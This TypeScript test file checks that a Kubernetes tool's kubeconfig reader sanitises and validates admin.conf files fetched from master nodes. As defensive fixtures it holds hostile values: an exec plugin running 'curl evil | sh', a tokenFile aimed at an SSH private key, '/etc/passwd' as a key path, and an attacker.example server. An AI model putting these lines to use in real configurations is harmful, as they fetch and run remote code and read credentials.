import { X509Certificate } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { parse, stringify } from "yaml";
import { readKubeconfig } from "../src/kubeconfig.ts";
import { type Authority, createAuthority, issue, type KeyPair } from "../src/pki/authority.ts";
import { testCluster } from "./support/cluster.ts";
import { scriptedHost } from "./support/scripted-host.ts";
import { failure } from "./support/sshd.ts";

const cluster = testCluster();
const masters = (...answers: (string | undefined)[]) =>
  cluster.masters.map((machine, index) => scriptedHost({ machine, answer: () => answers[index] ?? { code: 1 } }));

let ca: Authority;
let admin: KeyPair;
let other: KeyPair;
beforeAll(async () => {
  const more = { keys: "ecdsa-p256", validityDays: 1 } as const;
  ca = await createAuthority({ commonName: "kubernetes", ...more }, new Date());
  const request = { commonName: "kubernetes-admin", sans: [], usages: ["clientAuth"], ...more } as const;
  [admin, other] = await Promise.all([issue(ca, request, new Date()), issue(ca, request, new Date())]);
});

const base64 = (text: string) => Buffer.from(text).toString("base64");

interface AdminConf {
  readonly server?: string;
  readonly user?: Readonly<Record<string, unknown>>;
  readonly more?: object;
  readonly authority?: string;
}

/** A master's admin.conf. */
function conf({ server = "https://10.0.0.10:8443", user = {}, more = {}, authority }: AdminConf = {}): string {
  const own = { "client-certificate-data": base64(admin.certificate), "client-key-data": base64(admin.key.reveal()) };
  return stringify({
    apiVersion: "v1",
    kind: "Config",
    clusters: [
      { name: "prod", cluster: { "certificate-authority-data": base64(authority ?? ca.certificate), server } },
    ],
    contexts: [{ name: "kubernetes-admin@prod", context: { cluster: "prod", user: "kubernetes-admin" } }],
    "current-context": "kubernetes-admin@prod",
    users: [{ name: "kubernetes-admin", user: { ...own, ...user } }],
    ...more,
  });
}

describe("the admin configuration", () => {
  it.each(["https://10.0.0.10:8443", "https://10.0.0.12:6443", "https://attacker.example"])(
    "points at the VIP, even if the master's file points at %s",
    async (server) => {
      const found = parse((await readKubeconfig(masters(conf({ server })), cluster)).reveal()) as object;
      expect(found).toMatchObject({
        clusters: [{ name: "prod", cluster: { server: "https://10.0.0.10:8443" } }],
        contexts: [{ name: "kubernetes-admin@prod", context: { cluster: "prod", user: "kubernetes-admin" } }],
        "current-context": "kubernetes-admin@prod",
      });
    },
  );

  it("has the master's certificates and key, and is accepted by a TLS client", async () => {
    const text = (await readKubeconfig(masters(conf()), cluster)).reveal();
    const { clusters, users } = parse(text) as Record<string, Record<string, Record<string, string>>[]>;
    const pem = (data: string | undefined) => Buffer.from(data ?? "", "base64").toString();
    const same = (one: string, two: string) => new X509Certificate(one).raw.equals(new X509Certificate(two).raw);
    expect(same(pem(clusters?.[0]?.cluster?.["certificate-authority-data"]), ca.certificate)).toBe(true);
    expect(same(pem(users?.[0]?.user?.["client-certificate-data"]), admin.certificate)).toBe(true);
    expect(pem(users?.[0]?.user?.["client-key-data"])).toMatch(/^-----BEGIN PRIVATE KEY-----/);
  });

  it("keeps all authorities during a change of authorities", async () => {
    const both = conf({ authority: `${ca.certificate}# the next\n${ca.certificate}` });
    const { clusters } = parse((await readKubeconfig(masters(both), cluster)).reveal()) as {
      clusters: { cluster: Record<string, string> }[];
    };
    const data = Buffer.from(clusters[0]?.cluster["certificate-authority-data"] ?? "", "base64").toString();
    expect(data.match(/BEGIN CERTIFICATE/g)).toHaveLength(2);
    expect(data).not.toContain("# the next");
  });

  it("runs nothing and reads nothing on the operator's machine, whatever the master's file contains", async () => {
    const exec = { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] };
    const hostile = conf({
      user: { exec, tokenFile: "/home/operator/.ssh/id_ed25519", "auth-provider": { name: "gcp" } },
      more: { extensions: [{ name: "planted" }], preferences: { colors: true } },
    });
    const text = (await readKubeconfig(masters(hostile), cluster)).reveal();
    expect(text).not.toMatch(/exec|evil|tokenFile|auth-provider|planted|colors/);
  });
});

describe("an admin configuration", () => {
  it.each<[string, () => string, string]>([
    [
      "a program in place of a certificate",
      () => conf({ user: { "client-certificate-data": null } }),
      "it has no client-certificate-data",
    ],
    [
      "a file in place of a key",
      () => conf({ user: { "client-key-data": undefined, "client-key": "/etc/passwd" } }),
      "it has no client-key-data",
    ],
    [
      "another's key",
      () => conf({ user: { "client-key-data": base64(other.key.reveal()) } }),
      "does not belong to the certificate",
    ],
    [
      "a certificate as its key",
      () => conf({ user: { "client-key-data": base64(admin.certificate) } }),
      "private key is not valid PEM",
    ],
    [
      "a key as its certificate",
      () => conf({ user: { "client-certificate-data": base64(admin.key.reveal()) } }),
      "certificate is not valid PEM",
    ],
    [
      "a node's certificate as an authority",
      () => conf({ authority: admin.certificate }),
      "the authority's certificate is not a CA certificate",
    ],
    ["nothing", () => "", "it has no certificate-authority-data"],
    ["null", () => "null", "it has no certificate-authority-data"],
    ["lists of nothing", () => "clusters: [null]\nusers: [null]\n", "it has no certificate-authority-data"],
    ["HTML", () => "<html>\n<p>: &x *y", "it is not valid YAML"],
  ])("is refused with its host if the master's file has %s", async (_, text, why) => {
    expect(await failure(readKubeconfig(masters(text()), cluster))).toMatchObject({
      code: "E_REFUSED",
      message: "/etc/kubernetes/admin.conf is not what kubeadm writes",
      details: { host: "m1", why: expect.stringContaining(why) as string },
    });
  });

  it("that cannot be read does not show its key", async () => {
    const key = base64(admin.key.reveal());
    const error = await failure(readKubeconfig(masters(`${conf()}users: [*nobody, ${key}]\n`), cluster));
    expect(error.explain()).not.toContain(key.slice(0, 20));
  });

  it("comes from the next master if the first was replaced", async () => {
    const found = await readKubeconfig(masters(undefined, conf()), cluster);
    expect(found.reveal()).toContain("https://10.0.0.10:8443");
  });

  it("is a secret", async () => {
    const found = await readKubeconfig(masters(conf()), cluster);
    expect([String(found), JSON.stringify(found)]).toEqual(["***", '"***"']);
  });

  it("that is on no master yet is refused, with the command that creates one", async () => {
    expect(await failure(readKubeconfig(masters(), cluster))).toMatchObject({
      code: "E_REFUSED",
      message: "no master has /etc/kubernetes/admin.conf",
      details: {
        origin: { file: cluster.file },
        hint: "there is no cluster here yet; `tripod apply -i FILE` creates one",
      },
    });
  });
});
